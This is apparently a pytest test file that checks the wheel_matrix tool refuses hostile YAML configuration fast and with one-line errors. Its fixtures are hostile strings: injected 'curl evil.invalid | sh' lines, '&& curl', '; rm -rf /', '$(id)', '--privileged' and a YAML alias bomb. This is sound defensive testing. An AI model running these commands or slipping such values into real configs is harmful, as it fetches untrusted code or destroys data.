"""Hostile matrix.yaml and settings.yaml: each refused fast, in one short line naming the place."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from wheel_matrix.configuration import matrix_file, settings, strict_yaml
from wheel_matrix.errors import ConfigError

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
SMALL = (FIXTURES / "matrix-small.yaml").read_text()
SETTINGS = (FIXTURES / "settings-small.yaml").read_text()


def refused(path: Path, load: object = matrix_file.load) -> str:
    """The one-line message loading ``path`` gives; it must come within a second."""
    start = time.monotonic()
    with pytest.raises(ConfigError) as info:
        load(path)  # type: ignore[operator]
    assert time.monotonic() - start < 1.0
    message = str(info.value)
    assert "\n" not in message and len(message) < 400, message
    return message


def edited(tmp_path: Path, old: str, new: str, text: str = SMALL) -> Path:
    assert old in text
    path = tmp_path / "matrix.yaml"
    path.write_text(text.replace(old, new, 1))
    return path


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        # YAML itself
        ('test_arch: "9.0"', 'test_arch: "9.0"\ntest_arch: "8.0"',
         "line 3: invalid YAML: duplicate key 'test_arch' (first on line 2)"),
        ('    pypi_cuda: "13.0"\n', '    pypi_cuda: "13.0"\n    pypi_cuda: "12.6"\n',
         "invalid YAML: duplicate key 'pypi_cuda'"),
        ('test_arch: "9.0"', "test_arch: " + "9" * 5000, "line 2: invalid YAML: number too long"),
        ('test_arch: "9.0"', "test_arch: 0x" + "f" * 30, "line 2: invalid YAML: number too large"),
        ('test_arch: "9.0"', "test_arch: 2024-13-45", "line 2: invalid YAML: bad value"),
        ('test_arch: "9.0"', "test_arch: [" * 20000 + "]" * 20000, "nested deeper than"),
        ('test_arch: "9.0"', 'anchor: &a "9.0"\ntest_arch: *a', "aliases (*name) are not allowed"),
        # values that would reach generated files
        ("image: nvidia/cuda:13.0.2-devel-rockylinux8",
         'image: "nvidia/cuda:13.0.2\\nRUN curl http://evil.invalid/x | sh"',
         "cuda.\"13.0\".image: 'nvidia/cuda:13.0.2\\nRUN curl"),
        ("image: nvidia/cuda:13.0.2-devel-rockylinux8", 'image: "nvidia/cuda:13.0.2 --privileged"',
         "is not an image reference"),
        ("image: nvidia/cuda:13.0.2-devel-rockylinux8", 'image: "nvidia/CUDA:13"',
         "is not an image reference"),
        ('"https://download.pytorch.org/whl/{compute}"', '"https://download.pytorch.org/{banana}"',
         "torch_index: unknown placeholder '{banana}' (only {compute})"),
        ('"https://download.pytorch.org/whl/{compute}"', '"https://x.org/{0}"',
         "torch_index: unknown placeholder '{0}'"),
        ('"https://download.pytorch.org/whl/{compute}"', '"https://x.org/{compute!r}"',
         "takes no format spec"),
        ('"https://download.pytorch.org/whl/{compute}"', '"https://x.org/{compute"',
         "is not a URL template"),
        ('"https://download.pytorch.org/whl/{compute}"', '"file:///etc/{compute}"',
         "is not an http(s) URL"),
        ('"https://download.pytorch.org/whl/{compute}"', '"https://x.org/$(id)/{compute}"',
         "has characters a URL here may not have"),
        ('"https://download.pytorch.org/whl/{compute}"', '"https://x.org/{compute} --pre"',
         "has characters a URL here may not have"),
        ('arch_list: "9.0;10.0+PTX"', 'arch_list: "9.0;;10.0"', "an empty entry"),
        ('arch_list: "9.0;10.0+PTX"', 'arch_list: "sm_90"', "'sm_90' is not a GPU arch"),
        ('arch_list: "9.0;10.0+PTX"', 'arch_list: "9.0;banana"', "'banana' is not a GPU arch"),
        ('arch_list: "9.0;10.0+PTX"', 'arch_list: "9.0\\n"', "is not a GPU arch"),
        ('test_arch: "9.0"', 'test_arch: "9.0\\n"', "test_arch: '9.0\\n' is not a GPU arch"),
        ("version: 2.14.1", 'version: "2.14.1\\nRUN id"', "is not a release such as 2.14.1"),
        # consistency
        ('    pypi_cuda: "13.0"\n    manylinux: "2_28"\n  "2.14"',
         '    pypi_cuda: "12.4"\n    manylinux: "2_28"\n  "2.14"',
         "torch.\"2.13\".pypi_cuda: CUDA 12.4 is not in this release's cuda list (12.6, 13.0)"),
        ('- {torch: "2.13", compute: "12.6"}', '- {torch: "2.13", python: "3.13"}',
         "exclude[0]: matches no cell of the axes"),
        ("arch: [x86_64]", "arch: []", "axes.arch: must not be empty"),
        ('python: ["3.10", "3.12"]', 'python: ["3.10", "3.12", "3.10"]',
         "axes.python[2]: 3.10 is listed twice"),
    ],
)
def test_bad_matrix_text_is_one_line(tmp_path: Path, old: str, new: str, expected: str) -> None:
    message = refused(edited(tmp_path, old, new))
    assert expected in message
    assert message.startswith(str(tmp_path / "matrix.yaml"))


def test_axes_that_leave_no_cell(tmp_path: Path) -> None:
    path = edited(tmp_path, "include:\n  - {torch: \"2.14\", compute: \"13.0\", arch: aarch64}",
                  "include: []")
    path.write_text(path.read_text().replace('compute: [cpu, "12.6", "13.0"]', 'compute: ["12.6"]')
                    .replace('- {torch: "2.13", compute: "12.6"}',
                             '- {torch: "2.14", compute: "12.6"}\n  - {torch: "2.13"}'))
    assert "leave no cell to build" in refused(path)


def test_alias_bomb_is_refused_at_once(tmp_path: Path) -> None:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [{','.join(['*' + prev] * 9)}]")
    lines.append("test_arch: *i")
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n")
    assert "aliases (*name) are not allowed" in refused(path)


def test_long_values_are_shortened_in_messages(tmp_path: Path) -> None:
    message = refused(edited(tmp_path, 'test_arch: "9.0"', "test_arch: " + "x" * 500_000))
    assert "… (500002 characters) is not a GPU arch" in message
    message = refused(edited(tmp_path, 'test_arch: "9.0"', "k" * 1000 + ': "9.0"'))
    assert "kkk… (1000 characters): unknown key" in message


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "folder", "too-big", "not-utf8", "missing"])
def test_only_a_small_regular_utf8_file_is_read(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "matrix.yaml"
    expected = {
        "dev-zero": "not a regular file",
        "fifo": "not a regular file",
        "folder": "not a regular file",
        "too-big": f"is more than the {strict_yaml.MAX_BYTES} allowed",
        "not-utf8": "line 2: not UTF-8 (byte 15)",
        "missing": "cannot read: No such file or directory",
    }[kind]
    if kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(path)  # nobody writes: opening it must not wait
    elif kind == "folder":
        path.mkdir()
    elif kind == "too-big":
        path.write_text("# " + "x" * strict_yaml.MAX_BYTES + "\n" + SMALL)
    elif kind == "not-utf8":
        path.write_bytes(b"test_arch: 9\n# \xff\xfe\n")
    assert expected in refused(path)


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("version: v1}", 'version: "v1\\n      - run: curl evil.invalid | sh"}',
         "actions.checkout.version: 'v1\\n"),
        ("auditwheel: 1.0.0", 'auditwheel: "1.0.0 && curl evil.invalid"',
         "tools.auditwheel: '1.0.0 && curl evil.invalid' is not an exact version"),
        ("default: 14", "default: fourteen", "host_gcc.default: 'fourteen' is not a gcc-toolset"),
        ("x86_64: ubuntu-test", 'x86_64: "ubuntu-test\\nevil: 1"', "runners.x86_64:"),
        ("x86_64: example.invalid/manylinux_2_28_x86_64:1@",
         "x86_64: example.invalid/manylinux_2_28_x86_64:1 --privileged@",
         "is not an image reference"),
        ("nox: 2000.1.1", 'nox: "2000.1.1; rm -rf /"', "nox: '2000.1.1; rm -rf /'"),
        ("    nvidia/cuda:12.6.3-devel-rockylinux8: sha256:",
         '    "nvidia/cuda:12.6.3\\nRUN id": sha256:', "is not an image reference"),
    ],
)
def test_bad_settings_are_one_line(tmp_path: Path, old: str, new: str, expected: str) -> None:
    path = edited(tmp_path, old, new, SETTINGS)
    message = refused(path, settings.load)
    assert expected in message
    assert "\n" not in message


def test_cli_reports_a_hostile_matrix_in_one_line(tmp_path: Path) -> None:
    bad = edited(tmp_path, 'test_arch: "9.0"', "test_arch: [" * 20000 + "]" * 20000)
    done = subprocess.run(
        [sys.executable, "-m", "wheel_matrix", "cells", "--matrix", str(bad)],
        cwd=ROOT, capture_output=True, text=True, check=False, timeout=60,
    )
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        f"error: {bad}: line 2: invalid YAML: nested deeper than {strict_yaml.MAX_DEPTH}"
    ]
